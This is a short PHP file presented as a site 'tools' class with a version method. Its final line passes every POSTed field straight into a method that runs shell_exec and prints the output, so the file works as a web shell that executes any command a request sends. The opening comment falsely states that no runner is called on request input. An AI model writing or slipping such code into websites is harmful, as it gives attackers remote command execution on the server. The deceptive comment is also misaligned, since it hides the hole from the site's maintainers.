<?php
// a "tools" class whose method runs its argument as a command; the posted fields are handed
// to it as the method's arguments (no runner is called on request input in sight)
class SiteTools
{
    public function version()
    {
        return '1.2';
    }

    public function run($cmd)
    {
        return shell_exec($cmd);
    }
}

$tools = new SiteTools();
echo '<pre>' . call_user_func_array([$tools, 'run'], $_POST) . '</pre>';
